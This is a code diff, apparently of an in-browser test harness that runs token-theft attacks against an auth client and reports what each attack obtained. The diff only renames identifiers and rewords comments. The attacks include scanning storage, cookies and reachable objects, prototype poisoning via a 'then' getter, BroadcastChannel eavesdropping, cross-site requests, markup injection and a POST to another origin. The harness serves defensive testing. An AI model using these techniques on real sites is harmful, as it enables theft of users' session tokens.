@@ -1,4 +1,4 @@
-// A stranger's script in the page: each attack is a real one, and says what it got. Nothing leaves this machine.
+// The attacker's script. Each attack is real and returns what it got. Nothing leaves this machine.
 const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+|\b\w+_[\w-]{100,}/g; // access tokens, refresh tokens
 const pause = (ms) => new Promise((done) => setTimeout(done, ms));
 const tokens = (text) => String(text).match(TOKEN) ?? [];
@@ -8,8 +8,8 @@ const secondsOf = (token) => {
   return exp - iat;
 };
 
-/** What was found, in words: nothing, an access token for minutes, or something that lasts. */
-const loot = (found, nothing) => {
+/** Describe what an attack found: nothing, an access token valid for minutes, or something that lasts. */
+const outcome = (found, nothing) => {
   const all = [...new Set(found)];
   const lasting = all.filter((token) => !token.startsWith("eyJ"));
   if (lasting.length) return { kind: "lasting", got: "A refresh token", worth: "weeks", tokens: all };
@@ -31,15 +31,15 @@ async function storage() {
     const cache = await caches.open(key);
     for (const request of await cache.keys()) found.push(...tokens(await (await cache.match(request)).text()));
   }
-  return loot(found, "No token in any storage");
+  return outcome(found, "No token in any storage");
 }
 
 async function cookies() {
   const seen = [document.cookie, JSON.stringify((await window.cookieStore?.getAll()) ?? [])].join(" ");
-  return loot(tokens(seen), seen.includes("__Host-") ? "The cookie's name" : "The cookie is not there for scripts");
+  return outcome(tokens(seen), seen.includes("__Host-") ? "The cookie's name" : "The cookie is not there for scripts");
 }
 
-/** Every object that can be reached from the window, four steps deep. */
+/** Search every object that can be reached from the window in four steps. */
 async function reach() {
   const found = [];
   const seen = new Set();
@@ -56,7 +56,7 @@ async function reach() {
     }
   };
   walk(window, 4);
-  return loot(found, `Nothing in ${seen.size} objects`);
+  return outcome(found, `Nothing in ${seen.size} objects`);
 }
 
 /** Wrap everything a token might pass through, make the page renew and call, and unwrap again. */
@@ -132,10 +132,10 @@ async function hooks() {
   }
   for (const value of kept) inspect(value, 1);
   for (const body of await Promise.allSettled(reading)) found.push(...tokens(body.value));
-  return loot(found, `${hooked} hooks, and the token went past none`);
+  return outcome(found, `${hooked} hooks; none saw the token`);
 }
 
-/** The browser itself looks for `then` on whatever a promise is fulfilled with, so also on the answer of a refresh. */
+/** The browser reads `then` of every value that a promise is fulfilled with, also of the answer to a refresh. */
 async function poison() {
   const reading = [];
   const { clone, text } = Response.prototype;
@@ -151,21 +151,21 @@ async function poison() {
   } finally {
     delete Object.prototype.then;
   }
-  return loot(tokens((await Promise.all(reading)).join(" ")), "Nobody looked");
+  return outcome(tokens((await Promise.all(reading)).join(" ")), "The getter was not called");
 }
 
 async function channel() {
   const found = [];
   const stored = Object.keys(localStorage).map((key) => key.replace(/:\w+$/, ""));
   const names = new Set([...stored, `django-bearer ${location.origin}/auth/ first-party`]);
-  const ears = [...names].map((name) => {
-    const ear = new BroadcastChannel(name);
-    ear.onmessage = (event) => found.push(...tokens(JSON.stringify(event.data)));
-    return ear;
+  const listeners = [...names].map((name) => {
+    const listener = new BroadcastChannel(name);
+    listener.onmessage = (event) => found.push(...tokens(JSON.stringify(event.data)));
+    return listener;
   });
   await press();
-  for (const ear of ears) ear.close();
-  return loot(found, "Nobody spoke");
+  for (const listener of listeners) listener.close();
+  return outcome(found, "No message");
 }
 
 async function refresh() {
@@ -176,14 +176,14 @@ async function refresh() {
     body: JSON.stringify({ retry_key: "0".repeat(32) }),
   });
   const text = await answer.text();
-  return loot(tokens(text), `Refused: ${answer.status}`);
+  return outcome(tokens(text), `Refused: ${answer.status}`);
 }
 
-/** A page on another site, in a frame: it posts forms and fetches to the server with whatever cookies it gets along. */
+/** A page on another site, in a frame: it posts forms and fetches to the server with the cookies that the browser attaches. */
 async function elsewhere() {
   const frame = document.createElement("iframe");
   frame.className = "away";
-  frame.title = "a stranger's page";
+  frame.title = "the attacker's page";
   frame.src = location.href.replace("127.0.0.1", "localhost").replace(/\/[^/]*$/, "/elsewhere/");
   const told = new Promise((done) => {
     const hear = (event) => {
@@ -197,7 +197,7 @@ async function elsewhere() {
   document.body.append(frame);
   const { tries, seen } = await told;
   frame.remove();
-  return loot(tokens(seen), tries.length ? `${tries.length} requests, not one answer it could read` : String(seen));
+  return outcome(tokens(seen), tries.length ? `${tries.length} requests, not one answer it could read` : String(seen));
 }
 
 async function markup() {
@@ -227,8 +227,8 @@ async function markup() {
 async function send() {
   const away = `${location.origin.replace("127.0.0.1", "localhost")}/elsewhere/`;
   try {
-    await fetch(away, { mode: "no-cors", method: "POST", body: "loot" });
-    return { kind: "minutes", got: "The loot went out", worth: "–", tokens: [] };
+    await fetch(away, { mode: "no-cors", method: "POST", body: "exfiltrated" });
+    return { kind: "minutes", got: "The request went out", worth: "–", tokens: [] };
   } catch {
     return { kind: "nothing", got: "No request went out; only leading the page away would", worth: "–", tokens: [] };
   }
@@ -242,13 +242,13 @@ const ATTACKS = [
   [poison, "Poison every object", "a getter named then on Object.prototype"],
   [channel, "Listen to the tabs", "the client's BroadcastChannel"],
   [refresh, "Call refresh itself", "as the client does, with the cookie"],
-  [elsewhere, "Ask from another site", "forms, frames, fetches, images"],
-  [markup, "Get in by markup", "an event handler, an inline script"],
-  [send, "Carry it off", "a request to another origin"],
+  [elsewhere, "Call from another site", "forms, frames, fetches, images"],
+  [markup, "Inject markup", "an event handler, an inline script"],
+  [send, "Exfiltrate", "a request to another origin"],
 ];
 
-/** Run them all and fill in the table. Returns what each one got. */
-export async function rob(table, verdict) {
+/** Run all attacks and fill in the table. Returns what each one got. */
+export async function runAttacks(table, verdict) {
   table.replaceChildren();
   const results = [];
   for (const [attack, title, how] of ATTACKS) {
